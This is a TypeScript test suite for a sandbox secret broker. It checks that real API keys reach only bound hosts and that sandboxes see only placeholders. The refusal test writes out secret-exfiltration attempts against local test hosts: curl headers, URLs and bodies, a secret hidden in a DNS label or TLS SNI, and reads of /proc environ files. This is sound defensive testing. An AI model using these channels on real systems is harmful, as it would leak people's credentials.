// Brokered secrets end to end, for either engine: a real daemon, real
// `secret set --host` (API and CLI), real sandboxes on the `debian` image
// (curl, Python's urllib and Node's fetch inside), the test internet
// (src/testing/internet.ts) as the outside world: its /echo endpoints answer
// with what they received, and /seen (asked from the host, around the proxy)
// tells what the server really got. Nothing leaves this machine.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { request } from "node:http";
import Database from "better-sqlite3";
import { api, cleanup, cli, createUser, startDaemon, type Daemon } from "../testing/harness.js";
import { exec, IMAGES_DIR, RECOVERED, waitForOutput } from "../testing/sandbox-api.js";
import { ADDR, POOL, PRIVATE_RANGE, buildTestInternet, type TestInternet } from "../testing/internet.js";
import { scanText, scanTree } from "../testing/scan.js";
import { runtimeDirFor } from "../util/paths.js";

export function brokerSuite(engine: "ns" | "vm", opts: { image?: string; prepare?: () => Promise<unknown> } = {}): void {
  let net: TestInternet;
  let d: Daemon;
  let key: string;
  const startedAt = Date.now();
  const image = opts.image ?? "debian";
  const args = () => ["--engine", engine, "--image", image, "--rate-limit", "0", "--default-egress", "public", "--dns-upstream", net.dnsUpstream, "--net-pool", POOL, "--private-cidr", PRIVATE_RANGE];
  const start = (dataDir?: string) => startDaemon({ dataDir, args: args(), env: { BHATTI_IMAGES_DIR: IMAGES_DIR, NODE_EXTRA_CA_CERTS: net.caFile } });
  const shaped = (prefix: string, n: number) => prefix + randomBytes(n).toString("base64url").replace(/[-_]/g, "x").slice(0, n);
  // Values shaped like API keys; every one of them must stay out of the sandbox.
  const V = { API: shaped("sk-", 40), BODY: shaped("bk_", 32), OTHER: shaped("ghp_", 36), CLI: shaped("xoxb-", 30) };
  const ROTATED = shaped("sk-", 40);
  const PLAIN = shaped("pl-", 24); // unbound: behaves as before (the value is in the env)
  const values = () => [...Object.values(V), ROTATED];
  const ph: Record<string, string> = {};

  const sh = async (script: string, timeout = 60): Promise<{ out: string; err: string; code: number }> => {
    const r = await exec(d, key, "b1", ["/bin/sh", "-c", script], { timeout_sec: timeout });
    return { out: r.stdout ?? "", err: r.stderr ?? "", code: r.exit_code };
  };
  /** What the test server received for request `id` (asked from the host, plain HTTP to its address: around the proxy). */
  const seen = (id: string) => new Promise<{ headers: string[]; url: string; body: string; sni: string | null } | null>((resolve, reject) => {
    request({ host: ADDR.A, port: 80, path: `/seen?id=${id}`, headers: { host: "api.bhatti.test" } }, (res) => {
      let b = "";
      res.on("data", (x) => { b += x; });
      res.on("end", () => resolve(JSON.parse(b)));
    }).on("error", reject).end();
  });
  const events = () => {
    const db = new Database(join(d.dataDir, "state.db"), { readonly: true });
    try { return db.prepare("SELECT type, subject, detail FROM events WHERE type = 'broker.exfil' ORDER BY id").all() as { type: string; subject: string; detail: string }[]; } finally { db.close(); }
  };
  const lastExfil = () => { const e = events(); return e.length ? { subject: e[e.length - 1].subject, ...JSON.parse(e[e.length - 1].detail) } : undefined; };
  const id = () => randomBytes(6).toString("hex");

  before(async () => {
    await opts.prepare?.();
    net = await buildTestInternet();
    d = await start();
    key = createUser(d.dataDir, "alice", ["--max-sandboxes", "4", "--max-cpus", "8", "--max-memory", "8192"]);
    const set = async (name: string, value: string, binding: Record<string, unknown>) => {
      const r = await api(d, "POST", "/secrets", { key, body: { name, value, ...binding } });
      assert.ok(r.status === 201 || r.status === 200, r.text);
    };
    await set("API", V.API, { hosts: ["api.bhatti.test"] });
    await set("BODY", V.BODY, { hosts: ["api.bhatti.test"], in_body: true });
    await set("OTHER", V.OTHER, { hosts: ["*.wild.bhatti.test"], header: "authorization" });
    await set("PLAIN", PLAIN, {});
    // The CLI's way: value on stdin, never in argv.
    const c = cli(["secret", "set", "CLI", "--host", "api.bhatti.test", "--header", "X-Api-Key", "--url", d.url, "--token", key], { input: V.CLI });
    assert.equal(c.code, 0, c.stderr);
    const r = await api(d, "POST", "/sandboxes", { key, body: { name: "b1", memory_mb: 512, secrets: ["API", "BODY", "OTHER", "PLAIN", "CLI"] } });
    assert.equal(r.status, 201, r.text);
    const env = await sh("env");
    for (const n of Object.keys(V)) {
      const m = new RegExp(`^${n}=(.*)$`, "m").exec(env.out);
      assert.ok(m, `${n} is in the env`);
      ph[n] = m![1];
    }
  });

  after(async () => {
    try {
      if (d) for (const s of (await api(d, "GET", "/sandboxes", { key })).json ?? []) await api(d, "DELETE", `/sandboxes/${s.id}`, { key });
    } catch (e) {
      // The daemon should be up: say why it is not (its exit, its last words) before failing.
      process.stderr.write(`broker suite cleanup: ${(e as Error).message} (${String((e as { cause?: unknown }).cause)}); daemon exit ${d?.proc.exitCode} ${d?.proc.signalCode}\n${d?.output().split("\n").slice(-40).join("\n")}\n`);
      throw e;
    } finally {
      await d?.stop();
      await net?.close();
      if (d) cleanup(d.dataDir);
    }
  });

  test("the sandbox holds placeholders shaped like the values; an unbound secret is the value as before", async () => {
    for (const [n, v] of Object.entries(V)) {
      assert.notEqual(ph[n], v);
      assert.equal(ph[n].length, v.length, n);
      const known = /^(sk-|ghp_|xoxb-)/.exec(v)?.[1];
      if (known) assert.ok(ph[n].startsWith(known), `${n} keeps its known prefix`);
    }
    assert.match((await sh("echo $PLAIN")).out, new RegExp(`^${PLAIN}$`, "m"));
    // inspect names the brokered ones (names only: no placeholder, no value).
    const r = await api(d, "GET", "/sandboxes/b1", { key });
    assert.deepEqual(r.json.brokered, ["API", "BODY", "CLI", "OTHER"]);
    assert.deepEqual([...r.json.secrets].sort(), ["API", "BODY", "CLI", "OTHER", "PLAIN"]);
    for (const x of [...Object.values(V), ...Object.values(ph)]) assert.ok(!r.text.includes(x), "no value or placeholder in the view");
  });

  test("curl: the bound host receives the value in a header; the sandbox sees only the placeholder, also echoed back", async () => {
    const i = id();
    const r = await sh(`curl -sS -D - "https://api.bhatti.test/echo?id=${i}" -H "Authorization: Bearer $API"`);
    assert.equal(r.code, 0, r.err + r.out);
    const got = await seen(i);
    assert.ok(got?.headers.includes(`Bearer ${V.API}`), JSON.stringify(got?.headers));
    assert.equal(got?.sni, "api.bhatti.test");
    assert.ok(r.out.includes(`Bearer ${ph.API}`), "the echoed request shows the placeholder");
    for (const v of values()) assert.ok(!scanText(r.out, v));
    // HTTP/2 is not offered on intercepted connections: curl falls back to HTTP/1.1.
    const h2 = await sh(`curl -sS --http2 -o /dev/null -w '%{http_version}' "https://api.bhatti.test/echo" -H "Authorization: Bearer $API"`);
    assert.equal(h2.out, "1.1", h2.err);
    // And a response header carrying the value comes back as the placeholder.
    const h = await sh(`curl -sS -D - "https://api.bhatti.test/echo-header?h=x-api-key" -H "X-Api-Key: $CLI"`);
    assert.match(h.out, new RegExp(`x-echo: ${ph.CLI}`, "i"));
    assert.ok(!h.out.includes(V.CLI));
  });

  test("Python urllib: URL substitution; Node fetch: in-body substitution", async () => {
    const i = id();
    const py = await sh(`python3 -c 'import os,urllib.request; print(urllib.request.urlopen("https://api.bhatti.test/echo?id=${i}&key="+os.environ["API"]).read().decode())'`);
    assert.equal(py.code, 0, py.err);
    assert.ok((await seen(i))?.url.endsWith(`key=${V.API}`));
    assert.ok(py.out.includes(ph.API) && !py.out.includes(V.API));
    const j = id();
    const node = await sh(`/opt/bhatti/node -e 'fetch("https://api.bhatti.test/echo?id=${j}",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({key:process.env.BODY})}).then(r=>r.text()).then(t=>console.log(t),e=>{console.log("ERR",(e.cause&&e.cause.code)||e.message);process.exit(1)})'`);
    assert.equal(node.code, 0, node.out + node.err);
    assert.equal((await seen(j))?.body, JSON.stringify({ key: V.BODY }));
    assert.ok(node.out.includes(ph.BODY) && !node.out.includes(V.BODY));
  });

  test("a placeholder where it is not bound is refused and recorded: another secret's, a header it may not take, plain HTTP, DNS, SNI", async () => {
    const cases: [string, string, Record<string, string>][] = [
      // OTHER is bound to *.wild.bhatti.test, not api: refused there.
      [`curl -s -o /dev/null -w '%{http_code}' https://api.bhatti.test/echo -H "Authorization: $OTHER"`, "403", { secret: "OTHER", where: "header", dest: "api.bhatti.test" }],
      // CLI may only go in X-Api-Key.
      [`curl -s -o /dev/null -w '%{http_code}' https://api.bhatti.test/echo -H "Authorization: $CLI"`, "403", { secret: "CLI", where: "header" }],
      // API is not in-body.
      [`curl -s -o /dev/null -w '%{http_code}' https://api.bhatti.test/echo -d "k=$API"`, "403", { secret: "API", where: "body" }],
      // Plain HTTP to another allowed host: header, URL, body.
      [`curl -s -o /dev/null -w '%{http_code}' http://other.bhatti.test/ -H "X-K: $API"`, "403", { secret: "API", where: "header", dest: "other.bhatti.test" }],
      [`curl -s -o /dev/null -w '%{http_code}' "http://other.bhatti.test/?k=$BODY"`, "403", { secret: "BODY", where: "url" }],
      [`head -c 200000 /dev/zero | tr '\\0' a > /tmp/body; printf %s "$OTHER" >> /tmp/body; curl -s -o /dev/null -w '%{http_code}' http://other.bhatti.test/echo --data-binary @/tmp/body`, "403", { secret: "OTHER", where: "body" }],
      // Plain HTTP to the bound host, even without a placeholder.
      [`curl -s -o /dev/null -w '%{http_code}' http://api.bhatti.test/echo`, "403", { secret: "API", where: "plaintext" }],
    ];
    for (const [script, code, detail] of cases) {
      const r = await sh(script);
      assert.equal(r.out, code, `${script}: ${r.out} ${r.err}`);
      const e = lastExfil();
      for (const [k, v] of Object.entries(detail)) assert.equal(e?.[k], v, `${script}: ${JSON.stringify(e)}`);
      assert.equal(e?.subject, "b1");
    }
    // DNS: a placeholder as a label gets NXDOMAIN (no upstream query), recorded.
    const dns = await sh(`python3 -c 'import os,socket
try: print(socket.gethostbyname(os.environ["API"].lower()+".other.bhatti.test"))
except Exception as e: print("ERR", e)'`);
    assert.match(dns.out, /^ERR/);
    assert.equal(lastExfil()?.where, "dns");
    assert.equal(lastExfil()?.secret, "API");
    // SNI: the connection is closed.
    const sni = await sh(`/opt/bhatti/node -e 'const t=require("tls").connect({host:"${ADDR.B}",port:443,servername:process.env.OTHER.toLowerCase()+".bhatti.test",rejectUnauthorized:false},()=>{console.log("CONNECTED");t.end()});t.on("error",e=>{console.log("ERR",e.code)})'`);
    assert.match(sni.out, /^ERR/);
    assert.equal(lastExfil()?.where, "sni");
    // Events never carry a value.
    for (const v of values()) assert.ok(!scanText(JSON.stringify(events()), v));
  });

  test("no value anywhere in the sandbox: env, /proc, files", async () => {
    // Fragments of the values (not in any placeholder), so this grep's own argv carries no whole value.
    const frags = Object.values(V).map((v) => v.slice(8, 22));
    const env = await sh("cat /proc/self/environ /proc/1/environ 2>/dev/null | tr '\\0' '\\n'; env");
    for (const f of frags) assert.ok(!env.out.includes(f));
    const g = await sh(`grep -rlF ${frags.map((f) => `-e '${f}'`).join(" ")} / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null; echo done`, 120);
    assert.equal(g.out.trim(), "done", g.out);
  });

  test("a daemon restart keeps brokering working for the live sandbox", async () => {
    await d.stop();
    d = await start(d.dataDir);
    await waitForOutput(d, RECOVERED);
    const i = id();
    const r = await sh(`curl -sS "https://api.bhatti.test/echo?id=${i}" -H "Authorization: Bearer $API"`);
    assert.equal(r.code, 0, r.err);
    assert.ok((await seen(i))?.headers.includes(`Bearer ${V.API}`));
  });

  test("rotation applies to the running sandbox's next request; deletion stops substitution at once", async () => {
    assert.equal((await api(d, "POST", "/secrets", { key, body: { name: "API", value: ROTATED } })).status, 200);
    const i = id();
    await sh(`curl -sS "https://api.bhatti.test/echo?id=${i}" -H "Authorization: Bearer $API"`);
    assert.ok((await seen(i))?.headers.includes(`Bearer ${ROTATED}`));
    assert.equal((await api(d, "DELETE", "/secrets/API", { key })).status, 204);
    const j = id();
    const r = await sh(`curl -s -o /dev/null -w '%{http_code}' "https://api.bhatti.test/echo?id=${j}" -H "Authorization: Bearer $API"`);
    assert.equal(r.out, "403");
    assert.equal(await seen(j), null, "nothing reached the server");
  });

  test("no value on the host: data dir, runtime dir, daemon log, temp files", async () => {
    for (const v of values()) {
      assert.deepEqual(scanTree(d.dataDir, v), [], "data dir");
      assert.deepEqual(scanTree(runtimeDirFor(d.dataDir), v), [], "runtime dir");
      assert.deepEqual(scanTree(tmpdir(), v, { since: startedAt, maxBytes: 8 << 20 }), [], "temp");
      assert.ok(!scanText(d.output(), v), "daemon log");
    }
    // The scans are synchronous (seconds): let the event loop see what the daemon's sockets did meanwhile (closed
    // keep-alive connections) before the next request, or that request goes out on a connection already closed.
    await new Promise((r) => setTimeout(r, 200));
  });
}
